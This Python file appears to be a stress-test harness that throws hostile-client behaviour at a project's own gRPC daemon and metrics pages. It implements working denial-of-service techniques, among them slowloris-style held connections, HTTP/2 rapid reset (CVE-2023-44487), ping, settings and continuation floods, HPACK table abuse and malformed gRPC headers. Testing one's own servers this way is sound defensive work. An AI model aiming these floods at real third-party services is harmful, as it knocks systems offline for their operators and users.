"""What hostile clients do to a daemon, without anything of gRPC's: each kind is a generator that does a little with
each step and yields how it was answered. A kind may hold what it opened; it is closed at the end.

    python3 abuse.py '{"kind": "silent", "coordinator": "127.0.0.1:7070", ...}' STEPS SECONDS

does that many steps (0: until the time is over, or this process is sent SIGTERM) and prints the answers, counted, as
JSON. `KINDS` says for each kind what it does and the steps of a short run."""

import collections
import itertools
import json
import os
import random
import resource
import signal
import sys
import time

import abuse_calls
from abuse_calls import COORDINATOR, PS, Attack
from http2 import (
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Client,
    dial,
    frame,
    header,
    request_headers,
)

LIST_NODES = "/cairn.v1.JobService/ListNodes"
BOTH = COORDINATOR + PS
HELD_MAX = 3000  # connections of one kind
BEHIND = 100  # connections are looked at when so many later ones are open
BURST = 200  # frames sent at once


# ---- connections ----


def what_became_of(one):
    try:
        return "open" if one.recv(1 << 16) else "closed"
    except BlockingIOError:
        return "open"


def hold(attack, address, first):
    """Connections that send `first` and then nothing. More than are allowed are closed by the daemon."""
    held = collections.deque()
    try:
        while True:
            if len(held) >= HELD_MAX:
                held.popleft().close()
            try:
                held.append(dial(address, attack.source))
                held[-1].sendall(first)
                held[-1].settimeout(0)
                yield what_became_of(held[max(0, len(held) - BEHIND)])
            except OSError as error:
                yield type(error).__name__
    finally:
        for one in held:
            one.close()


def silent(attack):
    yield from hold(attack, attack.address, b"")


def half_preface(attack):
    yield from hold(attack, attack.address, PREFACE[:12])


def half_tls(attack):
    """The first bytes of a ClientHello of 512 bytes."""
    yield from hold(attack, attack.address, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(32))


def settings_only(attack):
    """The handshake of HTTP/2 is made, and nothing is called; the server's pings are not answered."""
    yield from hold(attack, attack.address, PREFACE + frame(SETTINGS))


def connect_flood(attack):
    while True:
        with dial(attack.address, attack.source) as one:
            one.sendall(os.urandom(8))
        yield "sent"


# ---- HTTP/2 ----


def again(attack, use, settings=b""):
    """use(client) is called until the connection ends, and then for a new one."""
    while True:
        try:
            client = Client(attack.address, attack.source, attack.tls_dir, settings)
        except OSError as error:
            yield f"no connection: {type(error).__name__}"
            continue
        try:
            while True:
                use(client)
                if client.received() is None:
                    yield "closed"
                    break
                yield "sent"
        except OSError as error:
            yield type(error).__name__
        finally:
            client.close()


def open_streams(attack):
    """Calls without a request, as many as the server takes, on one connection."""
    yield from again(attack, lambda client: [client.open(LIST_NODES) for _ in range(BURST)])


def rapid_reset(attack):
    """CVE-2023-44487: calls that are reset at once."""

    def use(client):
        sent = []
        for _ in range(BURST):
            stream, client.next_stream = client.next_stream, client.next_stream + 2
            sent.append(frame(HEADERS, END_HEADERS, stream, request_headers(LIST_NODES)))
            sent.append(frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
        client.send(b"".join(sent))

    yield from again(attack, use)


def ping_flood(attack):
    yield from again(attack, lambda client: client.send(frame(PING, payload=bytes(8)) * BURST))


def settings_flood(attack):
    yield from again(attack, lambda client: client.send(frame(SETTINGS, payload=b"\0\x04\0\0\xff\xff") * BURST))


def odd_frames(attack):
    """Frames with random kinds, flags, streams and lengths."""
    numbers = random.Random(1)

    def use(client):
        kind = numbers.choice([*range(10), numbers.randrange(256)])
        stream = numbers.choice([0, 1, 2, client.next_stream, (1 << 31) - 1])
        client.send(frame(kind, numbers.randrange(256), stream, numbers.randbytes(numbers.randrange(64))))

    yield from again(attack, use)


def small_frames(attack):
    """Frames that ask for nothing: priorities and windows."""
    quiet = frame(PRIORITY, 0, 1, bytes(5)) + frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")
    yield from again(attack, lambda client: client.send(quiet * BURST))


def large_headers(attack):
    more = [("x-large", "y" * 12_000)]
    yield from again(attack, lambda client: client.open(LIST_NODES, flags=1, more=more))


def continuation_flood(attack):
    """Headers that never end."""

    def use(client):
        if client.next_stream == 1:
            client.next_stream = 3
            client.send(frame(HEADERS, 0, 1, request_headers(LIST_NODES)))
        client.send(frame(CONTINUATION, 0, 1, header("x", "y" * 16_000)) * 4)

    yield from again(attack, use)


def header_tables(attack):
    """CVE-2023-33953: headers that must be kept, and a table that changes its size."""
    kept = b"".join(header(f"x-{i}", "y" * 40, indexed=True) for i in range(40))

    def use(client):
        stream, client.next_stream = client.next_stream, client.next_stream + 2
        block = b"\x20\x3f\xe1\x1f" + request_headers(LIST_NODES) + kept
        client.send(frame(HEADERS, END_HEADERS | 1, stream, block))

    yield from again(attack, use)


BAD_HEADERS = [
    ("te", "x"),
    (":scheme", "x"),
    ("grpclb_client_stats", "x"),
    ("x-bin", "!!!!"),
    ("grpc-trace-bin", "!"),
    ("grpc-timeout", "9" * 40 + "S"),
    (":status", "200"),
    ("grpc-encoding", "x"),
    ("", ""),
    ("X", b"\xff\x00"),
]


def bad_headers(attack):
    """CVE-2023-1428, CVE-2023-32732: headers that gRPC reads itself."""
    bad = itertools.cycle(BAD_HEADERS)
    yield from again(attack, lambda client: client.open(LIST_NODES, flags=1, more=[next(bad)]))


# ---- the pages ----


def slow_heads(attack):
    yield from hold(attack, attack.pages, b"GET /metrics HTTP/1.1\r\nX: ")


def pages(request):
    def kind(attack):
        while True:
            try:
                with dial(attack.pages, attack.source) as one:
                    one.sendall(request)
                    yield (one.recv(64) or b"closed").split(b"\r\n")[0].decode(errors="replace")
            except OSError as error:
                yield type(error).__name__

    return kind


endless_head = pages(b"GET / HTTP/1.1\r\nX: " + b"y" * 200_000)
pipelined = pages(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * 500)
wrong_host = pages(b"GET /api/v1/jobs HTTP/1.1\r\nHost: evil.example\r\n\r\n")


# kind -> (function, steps of a short run, whom it attacks)
KINDS = {
    "silent": (silent, 700, BOTH),
    "half-preface": (half_preface, 700, BOTH),
    "half-tls": (half_tls, 700, BOTH),
    "settings-only": (settings_only, 700, BOTH),
    "connect-flood": (connect_flood, 700, BOTH),
    "open-streams": (open_streams, 400, BOTH),  # so many that their memory would show
    "rapid-reset": (rapid_reset, 20, BOTH),
    "ping-flood": (ping_flood, 50, BOTH),
    "settings-flood": (settings_flood, 50, BOTH),
    "odd-frames": (odd_frames, 150, BOTH),
    "small-frames": (small_frames, 50, BOTH),
    "large-headers": (large_headers, 100, BOTH),
    "continuation-flood": (continuation_flood, 60, BOTH),
    "header-tables": (header_tables, 300, BOTH),
    "bad-headers": (bad_headers, 60, BOTH),
    "slow-heads": (slow_heads, 150, COORDINATOR),
    "endless-head": (endless_head, 30, COORDINATOR),
    "pipelined": (pipelined, 30, COORDINATOR),
    "wrong-host": (wrong_host, 30, COORDINATOR),
    **abuse_calls.KINDS,
}


def run(what, steps, seconds):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    attack = Attack(**what)
    end = time.monotonic() + seconds
    answers = collections.Counter()
    doing = KINDS[attack.kind][0](attack)
    try:
        for done, answer in enumerate(doing, 1):
            answers[answer] += 1
            if done == steps or time.monotonic() >= end:
                break
    finally:
        doing.close()
        print(json.dumps(answers), flush=True)


if __name__ == "__main__":
    run(json.loads(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]))
